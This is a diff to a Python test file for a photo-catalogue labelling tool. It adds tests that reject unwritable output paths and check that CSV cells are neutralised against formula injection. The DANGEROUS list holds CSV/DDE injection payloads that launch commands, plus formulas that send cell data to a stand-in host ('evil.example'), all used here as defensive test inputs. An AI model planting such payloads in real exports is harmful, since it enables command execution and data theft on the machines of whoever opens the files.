@@ -1,6 +1,7 @@
-"""Cells that an output cannot hold are found before any photo is labelled; all others come out."""
+"""Where a result goes; cells that an output cannot hold are found before any photo is labelled; all others come out."""
 
 import csv
+import io
 import json
 import math
 from collections.abc import Sequence
@@ -15,20 +16,81 @@ from hypothesis import strategies as st
 from catalogue.catalogue import open_catalogue
 from catalogue.photo import Wanted
 from catalogue.urls import cell_texts
-from catalogue.writers import writable
+from catalogue.writers import check_output, csv_lines, inert, writable
 from models.errors import ImageFault, InputError
 from models.storage.storage import FolderStorage
-from tests.photo_jobs import take_all
+from tests.photo_jobs import only_question, take_all
 from tests.unit.worker.answers import sure
 from worker.job.job import Job, photos_of
 from worker.job.parts import part_bytes, part_key
-from worker.job.spec import ModelPin
 from worker.job.writer import create_job
-from worker.request import JobOptions
-from worker.results.merge import merge_parts
+from worker.results.merge import merge_job
 
-PIN = ModelPin(path="/models/shop", reference="shop/1/float32@abc", variant="float32", digest="a" * 64)
 SUFFIXES = (".parquet", ".csv", ".jsonl")
+
+
+@pytest.mark.parametrize(
+    "name", ["out.xlsx", "out", "nowhere/out.csv", f"{'é' * 99}.csv", "/proc/labels.parquet", "a.csv"]
+)
+def test_an_output_that_cannot_be_written_is_refused_at_once(tmp_path: Path, name: str) -> None:
+    (tmp_path / "a.csv").mkdir()
+    with pytest.raises(InputError):
+        check_output(tmp_path / name)
+
+
+def test_a_folder_that_takes_no_file_is_told_by_name_and_reason() -> None:
+    with pytest.raises(InputError, match="/proc"):
+        check_output(Path("/proc/labels.parquet"))
+
+
+def test_an_output_elsewhere_is_refused_and_a_folder_may_be_called_like_it(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    for url in ("s3://shop/labels.parquet", "https://shop.example/labels.csv"):
+        with pytest.raises(InputError, match=url):
+            check_output(Path(url))
+    (tmp_path / "s3:").mkdir()
+    check_output(Path("s3:/labels.parquet"))
+
+
+def test_a_spreadsheets_option_is_refused_where_no_spreadsheet_reads(tmp_path: Path) -> None:
+    check_output(tmp_path / "OUT.CSV", excel_safe=True)
+    for name in ("out.parquet", "out.jsonl"):
+        check_output(tmp_path / name)
+        with pytest.raises(InputError, match="--excel-safe"):
+            check_output(tmp_path / name, excel_safe=True)
+
+
+DANGEROUS = (
+    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"!A0")', "=DDE(server; file; item; mode)",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
+    '=WEBSERVICE("http://evil.example/"&A2)', '="', "=", "+", "-", "@", "--1", "+-+1", "-5-cmd",
+    "-5e", "+3.2=1", "- wool", "\t=1+1", "\tshoes", "\r=1+1", "\rshoes", "\n=1+1", "\nshoes",
+    "\r\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x08 @x", " \t@x",
+    "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', "=1+1,=1+1", "-\u0665",
+)  # fmt: skip
+HARMLESS = (
+    "", "shoes", "-5", "+3.2", "-.5", "-1,234.50", "+1e-7", "5-3", "a=b", "me@example.com", "'=1+1",
+    '"=1+1"', "00123", " shoes", "photos/a b.jpg", "https://shop.example/a.jpg?x=1&y=-2",
+    "shoes 0.52; hats 0.31", "кеды", "−5", "#REF", "shoes\n=1+1",
+)  # fmt: skip
+
+
+def round_trip(cell: object) -> str:
+    """What a reader of CSV gets, between two others."""
+    ((first, read, last),) = csv.reader(io.StringIO("".join(csv_lines([["a", cell, "b"]])), newline=""))
+    assert (first, last) == ("a", "b")
+    return read
+
+
+def test_a_formula_is_text_after_a_round_trip_and_what_is_none_stays_as_it_is() -> None:
+    assert [round_trip(inert(cell)) for cell in DANGEROUS] == [f"'{cell}" for cell in DANGEROUS]
+    assert [round_trip(inert(cell)) for cell in HARMLESS] == list(HARMLESS)
+    for cell in (None, -5, -0.5, True, float("-inf")):
+        assert inert(cell) is cell
+    assert inert(" " * 1_000_000 + "shoes") == " " * 1_000_000 + "shoes"
+    assert str(inert("-" + "1" * 1_000_000 + "x")).startswith("'-1")
 
 
 def text_of(cells: Sequence[bytes | None]) -> pa.Array:
@@ -39,14 +101,14 @@ def text_of(cells: Sequence[bytes | None]) -> pa.Array:
 def made_job(table: pa.Table, folder: Path, suffix: str) -> Job:
     pq.write_table(table, folder / "rows.parquet")
     catalogue = writable(open_catalogue(folder / "rows.parquet", "image"), suffix)
-    return create_job(FolderStorage(folder / f"job{suffix}"), catalogue, PIN, JobOptions(), 2)
+    return create_job(FolderStorage(folder / f"job{suffix}"), catalogue, only_question(), chunk_rows=2)
 
 
 def merged(job: Job, output: Path) -> Path:
     for chunk in range(job.spec.chunks):
         rows = [sure("shoe", math.nan) for _ in range(job.rows_in_chunk(chunk))]
         job.storage.commit(part_key(chunk), part_bytes(rows, job.spec.id, "shop-7:42", 0.5, 0))
-    merge_parts(job, output)
+    merge_job(job, output, output.parent)
     return output
 
 
@@ -57,31 +119,28 @@ def strict_json(text: str) -> object:
     return json.loads(text, parse_constant=refuse)
 
 
+DIRTY = text_of([b"a", b"\xff"])
 REFUSED = {
-    "bytes in text": (text_of([b"a", b"\xff"]), SUFFIXES, "row 2 is not one .*UTF-?8"),
-    "bytes in a list of texts": (
-        pa.ListArray.from_arrays([0, 1, 2], text_of([b"a", b"\xff"])),
-        SUFFIXES,
-        "row 2 is not",
-    ),
-    "bytes in a dictionary": (text_of([b"a", b"\xff"]).dictionary_encode(), SUFFIXES, "row 2 is not"),
-    "no such time zone": (pa.array([None, 1], pa.timestamp("ns", "Mars/X")), SUFFIXES[1:], "is not one .*Mars"),
-    "bytes of one size": (pa.array([b"ab", b"cd"], pa.binary(2)), SUFFIXES[1:], r"holds bytes.* name a \.parquet"),
-    "a list of bytes": (pa.array([[b"ab"], []], pa.list_(pa.binary())), SUFFIXES[1:], "holds bytes"),
-    "what says it is JSON": (pa.array(["{}", "{"]), SUFFIXES[2:], "row 2 is not"),
+    "bytes in text": (DIRTY, SUFFIXES, "row 2"),
+    "bytes in a list of texts": (pa.ListArray.from_arrays([0, 1, 2], DIRTY), SUFFIXES, "row 2"),
+    "bytes in a dictionary": (DIRTY.dictionary_encode(), SUFFIXES, "row 2"),
+    "no such time zone": (pa.array([None, 1], pa.timestamp("ns", "Mars/X")), SUFFIXES[1:], "Mars"),
+    "bytes of one size": (pa.array([b"ab", b"cd"], pa.binary(2)), SUFFIXES[1:], r"\.parquet"),
+    "a list of bytes": (pa.array([[b"ab"], []], pa.list_(pa.binary())), SUFFIXES[1:], "bytes"),
+    "what says it is JSON": (pa.array(["{}", "{"]), SUFFIXES[2:], "row 2"),
 }
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
 @pytest.mark.parametrize("what", REFUSED)
 def test_what_cannot_be_written_is_refused_before_the_first_photo(tmp_path: Path, what: str, suffix: str) -> None:
-    cells, refused, said = REFUSED[what]
+    cells, refused, names = REFUSED[what]
     field = pa.field("more", cells.type, metadata={"hangtag": "json"} if "JSON" in what else None)
     table = pa.table([pa.array(["a.jpg", "b.jpg"]), cells], schema=pa.schema([("image", pa.string()), field]))
     if suffix not in refused:
         merged(made_job(table, tmp_path, suffix), tmp_path / f"out{suffix}")
         return
-    with pytest.raises(InputError, match=said) as refusal:
+    with pytest.raises(InputError, match=names) as refusal:
         made_job(table, tmp_path, suffix)
     assert "more" in str(refusal.value)
     assert not (tmp_path / f"job{suffix}" / "job.json").exists()
@@ -90,7 +149,7 @@ def test_what_cannot_be_written_is_refused_before_the_first_photo(tmp_path: Path
 def test_the_row_is_that_of_the_catalogue(tmp_path: Path) -> None:
     rows = 10_000
     table = pa.table({"image": ["a.jpg"] * rows, "title": text_of([b"x"] * (rows - 1) + [b"\xe9"])})
-    with pytest.raises(InputError, match=r"'title' of .*rows\.parquet, but the cell in row 10,000 is not one"):
+    with pytest.raises(InputError, match=r"'title' of .*row 10,000"):
         made_job(table, tmp_path, ".parquet")
 
 
@@ -164,7 +223,7 @@ def tables(draw: st.DrawFn) -> pa.Table:
     return pa.table([draw(dirty), *columns], names=["image", "a.b", "ä", ""][: 1 + len(columns)])
 
 
-@settings(max_examples=50, deadline=None)
+@settings(max_examples=50)
 @given(table=tables())
 def test_any_table_is_refused_at_once_or_comes_out_whole(
     table: pa.Table, tmp_path_factory: pytest.TempPathFactory
